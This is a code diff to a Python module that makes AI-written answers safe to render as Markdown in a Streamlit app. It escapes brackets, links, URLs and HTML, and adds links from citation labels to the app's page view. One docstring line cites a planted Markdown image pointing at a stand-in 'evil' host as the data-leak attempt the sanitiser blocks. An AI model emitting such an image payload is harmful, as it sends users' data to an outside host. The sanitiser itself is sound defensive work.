@@ -4,7 +4,8 @@
   links, raw HTML and link definitions are removed, bare URLs cannot become links; the only
   decoration left is what Annalyst itself adds (citation labels, the facts route's tables).
   A planted ``![x](http://evil/?q=…)`` never makes the browser fetch anything.
-* :func:`citation_labels` — "[NETFLIX_2017_10K.pdf p.41]" → "Netflix 2017 · p.41".
+* :func:`citation_labels` — "[NETFLIX_2017_10K.pdf p.41]" → "Netflix 2017 · p.41"; with
+  :func:`citation_links` each label is a link to the app's page view of the cited page.
 * :func:`trace_steps` — the audit trail as rows (step, tool, inputs, result, page).
 * :func:`echoes_prompt_example` — text that repeats the answer prompt's own examples.
 """
@@ -14,6 +15,7 @@ from __future__ import annotations
 import re
 from collections.abc import Iterable, Sequence
 from typing import Any
+from urllib.parse import quote, urlencode
 
 from backend.answering.answer import REFUSAL_EN, REFUSAL_ZH
 from backend.answering.prompts import FEW_SHOT
@@ -30,17 +32,48 @@ _ZWSP = "\u200b"
 _REFUSAL_ANSWERS = {REFUSAL_EN, REFUSAL_ZH}
 
 
-def safe_markdown(text: str, labels: dict[str, str] | None = None) -> str:
+def safe_markdown(
+    text: str, labels: dict[str, str] | None = None, links: dict[str, str] | None = None
+) -> str:
     """``text`` made safe to render as Markdown; ``labels`` maps the app's own citation tags
-    (``[file p.N]``) to the short labels shown instead."""
+    (``[file p.N]``) to the short labels shown instead, and ``links`` a tag to the app's own
+    route for its page view (:func:`citation_links`): that label becomes a link to it.
+
+    Brackets in the text itself are escaped, so only the app's labels can be links or
+    Streamlit directives (a model writing ``:red[…]`` or ``[x](…)`` shows those characters)."""
+    labels = labels or {}
+    if not labels:
+        return _safe_text(text)
+    tags = re.compile("(" + "|".join(map(re.escape, sorted(labels, key=len, reverse=True))) + ")")
+    parts = tags.split(text)  # odd positions: the tags
+    return "".join(
+        _label_markdown(labels[part], (links or {}).get(part)) if i % 2 else _safe_text(part)
+        for i, part in enumerate(parts)
+    )
+
+
+def _safe_text(text: str) -> str:
     out = strip_links(text).replace("<", "&lt;").replace(">", "&gt;")
     out = _URL.sub(lambda m: m.group(0).replace(":", ":" + _ZWSP), out)
     out = _WWW.sub("www" + _ZWSP + ".", out)
     out = _EMAIL_AT.sub("@" + _ZWSP, out)
-    out = out.replace("$", "\\$")
-    for tag, label in (labels or {}).items():
-        out = out.replace(tag, f":blue-background[{label}]")
-    return out
+    return re.sub(r"([\\$\[\]])", r"\\\1", out)  # a backslash, too, is shown as typed
+
+
+def _label_markdown(label: str, url: str | None) -> str:
+    """A citation label, highlighted; a link to ``url`` (the app's own route) when given."""
+    shown = stream_safe(label)
+    return f":blue-background[[{shown}]({url})]" if url else f":blue-background[{shown}]"
+
+
+def citation_links(citations: Sequence[Any], **params: Any) -> dict[str, str]:
+    """Each citation's tag → the app's page-view route, ``?doc=<id>&page=<n>`` plus ``params``
+    (e.g. the conversation and turn whose numbers the view highlights). Relative: it opens the
+    page view of this app wherever it is served (Streamlit opens such links in a new tab)."""
+    return {
+        c.tag: "?" + urlencode({"doc": c.doc_id, "page": c.page, **params}, quote_via=quote)
+        for c in citations
+    }
 
 
 _MD_ACTIVE = re.compile(r"([\\`*_{}\[\]()<>#+!|~$])")
